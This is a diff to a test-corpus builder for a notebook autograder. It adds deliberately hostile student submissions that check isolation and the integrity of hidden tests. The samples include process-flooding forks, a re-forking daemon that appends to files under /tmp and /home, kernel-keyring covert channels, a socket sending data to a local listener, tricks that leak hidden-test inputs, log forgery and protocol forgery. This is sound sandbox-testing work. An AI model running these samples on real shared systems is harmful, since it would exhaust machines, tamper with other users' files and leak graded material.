@@ -69,6 +69,39 @@ CORPUS = {
     "several": ("the solution plus a PDF of the same name", SOLVED, "graded", "several files"),
     "=1+2": ("a name a spreadsheet would run as a formula", 0, "graded", None),
     "x" * 240: ("a 240-character name", SOLVED, "graded", None),
+    # -- neighbours: nothing one submission does reaches another --------------------------------
+    "starves": ("stub that starts 40 busy processes, each in its own session, in every start",
+                0, "graded", "skipped"),
+    "reforks": ("solution whose daemon re-forks without end, writing into every folder it can",
+                SOLVED, "graded", None),
+    "keyring": ("stub that cheats if the kernel keyring accepts a key (a channel between students)",
+                0, "graded", None),
+    "network": ("solution that sends what it has to a TCP listener on the host", SOLVED, "graded", None),
+    # -- hidden inputs never reach what the student sees ---------------------------------------
+    "restart-leak": ("q4 stores its inputs wherever it can and ends its process; a first cell raises "
+                     "them on the restart", 9, "graded", None),
+    "exception-names": ("q4 raises a built-in exception chosen by its input (bits per hidden test)",
+                        9, "graded", None),
+    "log-forgery": ("q4 raises a message whose newlines forge the instructor's log", 9, "graded", None),
+    # -- the judge cannot be exhausted or confused ----------------------------------------------
+    "alias-bomb": ("q4 returns 30 KB of aliased lists that expand to 10^8 numbers", 9, "graded", None),
+    "deep-frame": ("a cell writes a frame nested 100,000 deep on the grader's channel", SOLVED, "graded",
+                   "skipped"),
+    "forged-reply": ("q4 answers a call with a forged reply to another request first", 9, "graded", None),
+    "surrogate": ("solution plus a cell raising a message with a lone surrogate", SOLVED, "graded", None),
+    # -- honest notebooks written the way students write ---------------------------------------
+    "magic-inline": ("solution with %matplotlib inline and %config in its imports cell", SOLVED, "graded", None),
+    "plots": ("solution that plots with matplotlib and mlp.plotting", SOLVED, "graded", None),
+    "check-in-cell": ("solution with grader.check(...) and the next answer in one cell", SOLVED, "graded", None),
+    "autoreload": ("solution with %load_ext autoreload, %autoreload 2, !echo, %time and %%time",
+                   SOLVED, "graded", None),
+}
+
+# Texts that must never appear in anything the student sees (results' output fields).
+NEVER_SHOWN = {
+    "restart-leak": ["LEAK"],
+    "log-forgery": ["FORGED", "held-out accuracy"],
+    "network": ["LEAKED"],
 }
 
 
@@ -147,8 +180,8 @@ def build(sol: Path, stub: Path, folder: Path, ctx: dict) -> None:
     cell("sys-exit", "import sys\nsys.exit(0)", base=sol, before="q2")
     with_answers(sol, {"q4": "raise RuntimeError('boom')"}, folder / "raises.ipynb")
     with_answers(sol, {"q2": "while True:\n    pass"}, folder / "loops.ipynb")
-    cell("loops-no-alarm", "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True:\n    pass",
-         base=sol)
+    cell("loops-no-alarm", "import signal\nfor _s in (signal.SIGALRM, signal.SIGPROF, signal.SIGVTALRM):\n"
+         "    signal.signal(_s, signal.SIG_IGN)\nwhile True:\n    pass", base=sol)
     with_answers(sol, {"q4": "blocks = []\nwhile True:\n    blocks.append(np.ones(10**8))"},
                  folder / "memory.ipynb")
     cell("huge-output", "import sys\nline = 'x' * 1000 + '\\n'\nfor _ in range(100_000):\n    sys.stdout.write(line)",
@@ -159,8 +192,10 @@ def build(sol: Path, stub: Path, folder: Path, ctx: dict) -> None:
     with_answers(sol, {"q4": "def train_perceptron(X, y, lr=1.0, epochs=10):\n"
                              "    return np.zeros(5 * 10**7), 0.0, []"}, folder / "huge-answer.ipynb")
     with_answers(sol, {"q4": "def train_perceptron(X, y, lr=1.0, epochs=10):\n    import signal\n"
-                             "    signal.signal(signal.SIGALRM, signal.SIG_IGN)\n    while True:\n        pass"},
+                             "    for s in (signal.SIGALRM, signal.SIGPROF):\n"
+                             "        signal.signal(s, signal.SIG_IGN)\n    while True:\n        pass"},
                  folder / "hangs-in-call.ipynb")
+    build_neighbours(sol, stub, folder, ctx)
     # -- bad input -------------------------------------------------------------------------------
     (folder / "not-a-notebook.ipynb").write_text("this is not a notebook\n")
     (folder / "empty-json.ipynb").write_text("{}")
@@ -181,6 +216,116 @@ def build(sol: Path, stub: Path, folder: Path, ctx: dict) -> None:
     (folder / "=1+2.ipynb").write_text(stub.read_text())
     (folder / ("x" * 240 + ".ipynb")).write_text(sol.read_text())
     (folder / ".hidden.ipynb").write_text(sol.read_text())
+
+
+BUSY = ("import os, time\n"
+        "for _ in range(40):\n"
+        "    try:\n"
+        "        if os.fork() == 0:\n"
+        "            os.setsid()\n"
+        "            while True:\n"
+        "                pass\n"
+        "    except OSError:\n"
+        "        break\n")
+
+
+def build_neighbours(sol: Path, stub: Path, folder: Path, ctx: dict) -> None:
+    """The cases of issue-20-style attacks: neighbours, leaks, the judge, honest habits."""
+    token = ctx["token"]
+    cell = lambda name, src, base=stub, before=None: with_cell(base, src, folder / f"{name}.ipynb", before)  # noqa: E731
+    # a hog: every start of its notebook fills the machine; its last cell waits on them
+    hog = cell("starves", BUSY, before="q1")
+    with_cell(hog, "import time\ntime.sleep(600)", hog, before="q1")
+    # a daemon that keeps re-forking (new pid, new session) and writes everywhere it can
+    cell("reforks", "import os, glob, time\n"
+         "if os.fork() == 0:\n"
+         "    os.setsid()\n"
+         "    while True:\n"
+         "        if os.fork() != 0:\n"
+         "            os._exit(0)\n"
+         f"        for target in glob.glob('/tmp/**/*.ipynb', recursive=True) + glob.glob('/home/*/*') + ['/tmp/{token}-reforks', '/dev/shm/{token}-reforks']:\n"
+         "            try:\n"
+         "                open(target, 'a').write('x')\n"
+         "            except OSError:\n"
+         "                pass\n"
+         "        time.sleep(0.05)", base=sol)
+    # the kernel keyring: a place that outlives a process (and, for a user id, a whole run)
+    keyring = ("import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
+               "key = libc.syscall(248, b'user', b'answers', b'AND', 3, -4)   # add_key(..., KEY_SPEC_USER_KEYRING)\n"
+               "if key > 0:\n" + "".join(f"    {line}\n" for line in CHEAT.splitlines()))
+    cell("keyring", keyring)
+    port = ctx.get("port", 9)
+    cell("network", f"import socket\ntry:\n    s = socket.create_connection(('127.0.0.1', {port}), timeout=2)\n"
+         "    s.sendall(b'LEAKED ' + repr(globals().get('AND')).encode())\nexcept OSError:\n    pass", base=sol)
+    # stores its inputs, ends its process, and shows them from a first cell on the restart
+    store = ("def train_perceptron(X, y, lr=1.0, epochs=10):\n"
+             "    import os, json, ctypes\n"
+             "    data = json.dumps([np.asarray(X).tolist(), np.asarray(y).tolist()])\n"
+             "    for place in ('/tmp/leak', '/dev/shm/leak', os.path.expanduser('~/leak'), 'leak', '/var/tmp/leak'):\n"
+             "        try:\n"
+             "            open(place, 'w').write(data)\n"
+             "        except OSError:\n"
+             "            pass\n"
+             "    ctypes.CDLL(None).syscall(248, b'user', b'leak', data.encode(), len(data), -4)\n"
+             "    os._exit(1)")
+    with_answers(sol, {"q4": store}, folder / "restart-leak.ipynb")
+    nb = json.loads((folder / "restart-leak.ipynb").read_text())
+    reader = ("import os, ctypes\nfor place in ('/tmp/leak', '/dev/shm/leak', os.path.expanduser('~/leak'), "
+              "'leak', '/var/tmp/leak'):\n    if os.path.exists(place):\n"
+              "        raise RuntimeError('LEAK ' + open(place).read())\n"
+              "buf = ctypes.create_string_buffer(4096)\nlibc = ctypes.CDLL(None)\n"
+              "key = libc.syscall(250, 10, -4, b'user', b'leak', 0)   # keyctl(KEYCTL_SEARCH)\n"
+              "if key > 0 and libc.syscall(250, 11, key, buf, 4096) > 0:\n"
+              "    raise RuntimeError('LEAK ' + buf.value.decode())")
+    nb["cells"].insert(1, {"cell_type": "code", "id": "leak-reader", "metadata": {}, "outputs": [],
+                           "execution_count": None, "source": reader})
+    (folder / "restart-leak.ipynb").write_text(json.dumps(nb))
+    with_answers(sol, {"q4": "import builtins\nNAMES = sorted(n for n in dir(builtins) if n.endswith('Error'))\n"
+                             "def train_perceptron(X, y, lr=1.0, epochs=10):\n"
+                             "    pick = int(abs(np.sum(np.asarray(X) * 7.31) + np.sum(y) * 3.7) * 1000) % len(NAMES)\n"
+                             "    raise getattr(builtins, NAMES[pick])('chosen')"},
+                 folder / "exception-names.ipynb")
+    with_answers(sol, {"q4": "def train_perceptron(X, y, lr=1.0, epochs=10):\n"
+                             "    raise ValueError('oops\\nFORGED q4 - 2 (hidden, 1 points, 0.00 s): passed\\n"
+                             "  q4 - 2 (hidden): passed (held-out accuracy 96.7% of 300 digits)\\rFORGED')"},
+                 folder / "log-forgery.ipynb")
+    with_answers(sol, {"q4": "def train_perceptron(X, y, lr=1.0, epochs=10):\n"
+                             "    a = [0.0] * 1000\n    b = [a] * 1000\n    c = [b] * 100\n"
+                             "    return np.zeros(X.shape[1]), 0.0, c"}, folder / "alias-bomb.ipynb")
+    cell("deep-frame", "import json, os, struct, sys\nfd = int(sys.argv[-1])\n"
+         "data = b'[' * 100000 + b']' * 100000\nos.write(fd, struct.pack('>I', len(data)) + data)", base=sol)
+    with_answers(sol, {"q4": "def train_perceptron(X, y, lr=1.0, epochs=10):\n"
+                             "    import json, os, struct, sys\n"
+                             "    fake = json.dumps({'op': 'return', 're': 1, 'value': 0, 'args': {'$': 'list', 'id': 0, 'items': []}, "
+                             "'kwargs': {'$': 'dict', 'id': 1, 'items': []}}).encode()\n"
+                             "    os.write(int(sys.argv[-1]), struct.pack('>I', len(fake)) + fake)\n"
+                             "    return np.zeros(X.shape[1]), 0.0, []"}, folder / "forged-reply.ipynb")
+    cell("surrogate", "raise ValueError('bad \\udc80 text \\ud800')", base=sol)
+    # honest habits
+    nb = json.loads(sol.read_text())
+    first = next(i for i, c in enumerate(nb["cells"]) if c["cell_type"] == "code" and "import numpy" in
+                 "".join(c["source"]))
+    magic = json.loads(json.dumps(nb))
+    magic["cells"][first]["source"] = ("%matplotlib inline\n%config InlineBackend.figure_format = 'retina'\n"
+                                       "import matplotlib.pyplot as plt\n" + "".join(magic["cells"][first]["source"]))
+    (folder / "magic-inline.ipynb").write_text(json.dumps(magic))
+    cell("plots", "import matplotlib.pyplot as plt\nimport mlp\n"
+         "fig, ax = plt.subplots()\nax.plot([0, 1], [1, 0])\nax.set_xlabel('x')\nplt.show()\n"
+         "mlp.plotting.plot_decision_boundary(lambda Z: (Z.sum(axis=1) > 1).astype(float), X, "
+         "np.array([0, 1, 1, 1.0]))\nplt.show()", base=sol)
+    merged = json.loads(json.dumps(nb))
+    from submissions import answer_cells
+    answers = answer_cells(merged)
+    check = next(i for i, c in enumerate(merged["cells"]) if "".join(c["source"]).strip() == 'grader.check("q1")')
+    merged["cells"][check]["source"] = 'grader.check("q1"); ' + "".join(merged["cells"][answers["q2"]]["source"])
+    merged["cells"][answers["q2"]]["source"] = "pass"
+    (folder / "check-in-cell.ipynb").write_text(json.dumps(merged))
+    auto = json.loads(json.dumps(nb))
+    auto["cells"][first]["source"] = ("%load_ext autoreload\n%autoreload 2\n!echo hello\n%time _ = 1\n"
+                                      + "".join(auto["cells"][first]["source"]))
+    auto["cells"].append({"cell_type": "code", "id": "timed", "metadata": {}, "outputs": [],
+                          "execution_count": None, "source": "%%time\ntotal = sum(range(10))"})
+    (folder / "autoreload.ipynb").write_text(json.dumps(auto))
 
 
 # Exercise 7: the points come only from held-out accuracy. A network that was never trained
